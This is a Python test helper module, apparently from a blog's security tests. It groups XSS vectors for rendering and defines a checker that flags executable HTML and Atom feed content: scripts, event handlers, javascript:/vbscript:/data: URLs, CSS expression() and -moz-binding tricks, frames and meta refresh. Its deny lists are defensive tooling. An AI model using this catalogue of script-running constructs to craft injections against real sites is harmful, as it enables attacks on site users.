@functools.lru_cache(maxsize=None)
def swallows(vector: str) -> bool:
    """Whether ``vector`` keeps the Markdown after it from being read as Markdown (an unclosed raw-text
    element, HTML comment or fence): such a vector must end a batch, or it would hide the next ones."""
    from blog import sanitize

    return "<strong>xss-batch-sentinel</strong>" not in sanitize.render_markdown(f"{vector}\n\n{_SENTINEL}").html


def batches(vectors, *, max_chars: int = 4000) -> list[list[str]]:
    """``vectors`` in order, grouped into Markdown documents of at most ``max_chars`` (joined by blank
    lines), each vector that :func:`swallows` closing its group so it cannot hide the vectors after it."""
    groups: list[list[str]] = [[]]
    size = 0
    for vector in vectors:
        if groups[-1] and size + len(vector) + 2 > max_chars:
            groups.append([])
            size = 0
        groups[-1].append(vector)
        size += len(vector) + 2
        if swallows(vector):
            groups.append([])
            size = 0
    return [group for group in groups if group]


# ---- helpers for the tests that store the vectors -------------------------------------------------------

def tag_name(vector: str, index: int) -> str:
    """A tag name made from a vector: commas separate tags, so they become spaces; NUL becomes U+FFFD as
    the forms make it; a number keeps the name (and its slug) unique and never empty."""
    text = vector.replace("\x00", "\ufffd").replace(",", " ")
    return f"{' '.join(text.split())[:40]} t{index}"


def file_name(vector: str) -> str:
    """A file name as Chromium sends it in a multipart form: quotes and line breaks percent-encoded (a name
    on disk cannot hold "/", so that becomes "_")."""
    name = vector[:100].replace("/", "_").replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
    return f"{name}.png"


def png(seed: int) -> bytes:
    """A small PNG of noise, over a kilobyte (a real photo's thumbnail is too)."""
    import io
    import random

    from PIL import Image

    rng = random.Random(seed)
    image = Image.frombytes("RGB", (24, 24), bytes(rng.randrange(256) for _ in range(24 * 24 * 3)))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


# ---- the checker ----------------------------------------------------------------------------------------

_SVG_NS = "http://www.w3.org/2000/svg"
_MATHML_NS = "http://www.w3.org/1998/Math/MathML"

# Elements that never belong in a page we serve, wherever they are.
_ALWAYS_FORBIDDEN = frozenset({
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "style", "noscript",
    "template", "xmp", "noembed", "noframes", "plaintext", "listing", "param", "isindex", "handler", "fencedframe",
})
# Elements only the page itself may use (its forms), never the HTML of a post, comment or bio.
_NOT_IN_USER_CONTENT = frozenset({"form", "input", "button", "textarea", "select", "option", "keygen", "meta",
                                  "link", "title"})
_URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "poster", "background", "lowsrc",
                             "dynsrc", "codebase", "cite", "ping", "longdesc", "manifest", "icon", "srcset",
                             "archive", "classid", "profile", "usemap", "itemtype", "to", "values", "from", "by"})
_BAD_SCHEMES = ("javascript:", "vbscript:", "livescript:", "mocha:", "data:")
_SAFE_DATA_IMAGE = re.compile(r"^data:image/(?:gif|png|jpeg|webp|avif)[;,]")
# What browsers drop from a URL before reading its scheme: leading C0 controls and spaces anywhere at the
# start, tabs and newlines everywhere.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f]")
_CSS_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6})[ \t\r\n\f]?|\\(.)", re.S)
_CSS_COMMENT = re.compile(r"/\*.*?(?:\*/|$)", re.S)
_PAGE_LINK_RELS = frozenset({"canonical", "alternate", "stylesheet", "icon", "preload", "manifest", "next", "prev"})


def parse_html(html: str):
    """The document a browser builds from ``html`` (html5lib, HTML elements without a namespace)."""
    return html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)


def _local(name: str) -> tuple[str | None, str]:
    if name.startswith("{"):
        namespace, _, local = name[1:].partition("}")
        return namespace, local.lower()
    return None, name.lower()


def dangerous_url(value: str, *, tag: str = "", attribute: str = "") -> bool:
    """Whether a URL (entities already decoded) would run script or load a document of its own."""
    if attribute == "srcset":
        return any(dangerous_url(part.strip().split(" ")[0], tag=tag, attribute="src")
                   for part in value.split(",") if part.strip())
    squeezed = _URL_NOISE.sub("", value).lower()
    if not squeezed.startswith(_BAD_SCHEMES):
        return False
    return not (tag in {"img", "source"} and attribute == "src" and _SAFE_DATA_IMAGE.match(squeezed))


def _css_decoded(value: str) -> str:
    def unescape(match: re.Match) -> str:
        if match.group(1):
            try:
                return chr(int(match.group(1), 16))
            except (ValueError, OverflowError):
                return "\ufffd"
        return match.group(2)

    text = _CSS_COMMENT.sub("", _CSS_ESCAPE.sub(unescape, value))
    return _URL_NOISE.sub("", text).lower()


def dangerous_style(value: str) -> bool:
    """Whether a style attribute could run script (old IE expressions, bindings, script URLs, imports)."""
    css = _css_decoded(value)
    if any(word in css for word in ("expression(", "javascript:", "vbscript:", "behavior:", "-moz-binding",
                                    "@import")):
        return True
    for target in re.findall(r"url\(([^)]*)\)?", css):
        if dangerous_url(target.strip("'\"")):
            return True
    return False


def _refresh_target(content: str) -> str:
    match = re.search(r"url\s*=\s*['\"]?([^'\"]*)", content, re.I)
    return match.group(1) if match else content.split(";", 1)[-1]


def find_executable(html: str, *, user_content_class: str = "prose") -> list[str]:
    """Everything in ``html`` a browser could execute, as short descriptions (empty when the page is clean).

    Parsed as a browser parses it (html5lib). Found: any ``<script>`` but the page's JSON-LD block (which
    must be valid JSON) and its own ``/static/`` scripts; any ``on*`` attribute; URL attributes whose
    decoded value, stripped of whitespace and control characters, starts with ``javascript:``, ``vbscript:``
    or ``data:`` (a raster ``data:image/`` on an ``img`` is allowed: the page's placeholder uses one); any
    ``srcdoc``; frames, objects, embeds, ``<base>``, ``<style>``, ``<noscript>``, ``<template>`` and other
    raw-text relics; ``<meta http-equiv>`` and ``<link>`` outside the head (and a refresh or unusual link
    anywhere); dangerous ``style`` attributes; SVG and MathML; and inside user content (elements with the
    class ``user_content_class``) any form control, metadata or media element.
    """
    found: list[str] = []
    root = parse_html(html)

    def visit(element, in_head: bool, in_user: bool) -> None:
        namespace, tag = _local(element.tag) if isinstance(element.tag, str) else (None, "")
        if not tag:  # a comment or a processing instruction: nothing a browser runs
            for child in element:
                visit(child, in_head, in_user)
            return
        attrs = {_local(k)[1]: v for k, v in element.attrib.items()}
        where = f"<{tag}{' in user content' if in_user else ''}>"
        classes = set((attrs.get("class") or "").split())
        in_user = in_user or user_content_class in classes

        if namespace in (_SVG_NS, _MATHML_NS):
            found.append(f"{where}: SVG/MathML element")
        if tag == "script":
            text = element.text or ""
            if attrs.get("type", "").strip().lower() == "application/ld+json" and not in_user and "src" not in attrs:
                try:
                    json.loads(text)
                except ValueError:
                    found.append(f"{where}: JSON-LD block that is not JSON: {text[:80]!r}")
            elif not (attrs.get("src", "").startswith("/static/") and not text.strip() and not in_user):
                found.append(f"{where}: script {attrs!r} {text[:80]!r}")
        if tag in _ALWAYS_FORBIDDEN:
            found.append(f"{where}: forbidden element {attrs!r}")
        if tag == "title" and not in_head:
            found.append(f"{where}: title outside the head")
        if tag == "meta":
            if "http-equiv" in attrs and (not in_head or attrs["http-equiv"].strip().lower() == "refresh"):
                found.append(f"{where}: meta http-equiv {attrs!r}")
            if attrs.get("http-equiv", "").strip().lower() == "refresh" and \
                    dangerous_url(_refresh_target(attrs.get("content", ""))):
                found.append(f"{where}: refresh to a script URL {attrs!r}")
        if tag == "link" and (not in_head or not set(attrs.get("rel", "").lower().split()) <= _PAGE_LINK_RELS):
            found.append(f"{where}: link {attrs!r}")
        if in_user and tag in _NOT_IN_USER_CONTENT:
            found.append(f"{where}: element that user content may not hold {attrs!r}")
        if in_user and "formaction" in attrs:
            found.append(f"{where}: formaction in user content")
        for name, value in attrs.items():
            value = value or ""
            if name.startswith("on"):
                found.append(f"{where}: event handler {name}={value!r}")
            elif name == "srcdoc":
                found.append(f"{where}: srcdoc={value!r}")
            elif name in _URL_ATTRIBUTES and dangerous_url(value, tag=tag, attribute=name):
                found.append(f"{where}: {name}={value!r}")
            elif name == "style" and dangerous_style(value):
                found.append(f"{where}: style={value!r}")
            elif name in {"attributename", "attributetype"} and value.strip().lower() in {"href", "xlink:href"}:
                found.append(f"{where}: animates {value!r}")
        for child in element:
            visit(child, in_head or tag == "head", in_user)

    visit(root, False, False)
    return found


def assert_clean(html: str, where: str = "") -> None:
    """Fail with every finding of :func:`find_executable` (and the context around the first)."""
    findings = find_executable(html)
    assert not findings, f"executable content in {where or 'the page'}:\n" + "\n".join(findings[:40])


_ATOM = "{http://www.w3.org/2005/Atom}"


def feed_findings(xml: str | bytes) -> list[str]:
    """Parse an Atom document (it must be well-formed XML) and check what feed readers render.

    ``type="html"`` constructs hold escaped HTML: their text is parsed as HTML and checked with
    :func:`find_executable` (with every element counting as user content). ``type="text"`` constructs
    (and those without a type) are text by RFC 4287 and must stay so: any other type is a finding.
    Link ``href`` and ``uri`` values must not be script URLs.
    """
    found: list[str] = []
    root = ET.fromstring(xml.encode() if isinstance(xml, str) else xml)
    for element in root.iter():
        local = element.tag.removeprefix(_ATOM)
        kind = element.get("type", "text")
        if local in {"title", "subtitle", "summary", "content", "rights"}:
            if kind == "html":
                body = f'<div class="feed">{element.text or ""}</div>'
                found += [f"{local}: {f}" for f in find_executable(body, user_content_class="feed")]
            elif kind != "text":
                found.append(f"{local}: unexpected type {kind!r}")
        if local == "link" and dangerous_url(element.get("href", "")):
            found.append(f"link: {element.get('href')!r}")
        if local == "uri" and dangerous_url(element.text or ""):
            found.append(f"uri: {element.text!r}")
    return found
